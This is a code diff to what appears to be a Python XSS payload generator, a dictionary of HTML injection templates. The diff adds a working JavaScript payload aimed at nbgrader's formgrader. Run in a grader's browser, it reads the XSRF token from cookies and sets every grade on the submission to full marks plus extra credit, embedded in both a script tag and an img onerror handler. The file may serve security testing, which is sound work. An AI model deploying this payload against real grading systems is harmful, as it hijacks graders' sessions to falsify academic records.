@@ -18,7 +18,18 @@ def payload(name, text):
     return text.replace("@", script(name))
 
 
+#: Gives the submission at hand full points and more, with the rights of whoever looks at it in formgrader.
+SET_GRADES = (
+    "(async()=>{const id=location.pathname.split('/submissions/')[1].split('/')[0];"
+    "for(const g of await(await fetch('/formgrader/api/grades?submission_id='+id)).json())"
+    "await fetch('/formgrader/api/grade/'+g.id,{method:'PUT',headers:{'X-XSRFToken':"
+    "(document.cookie.match(/_xsrf=([^;]+)/)||[])[1],'Content-Type':'application/json'},"
+    "body:JSON.stringify({manual_score:g.max_score,extra_credit:1})})})()"
+)
+
 HTML = {
+    "script-grades": f"<script>@;{SET_GRADES}</script>",
+    "img-grades": f'<img src=x onerror="@;{SET_GRADES}">',
     "script": "<script>@</script>",
     "script-case": "<ScRiPt >@</sCrIpT>",
     "script-broken": "<script\n>@</script\n>",
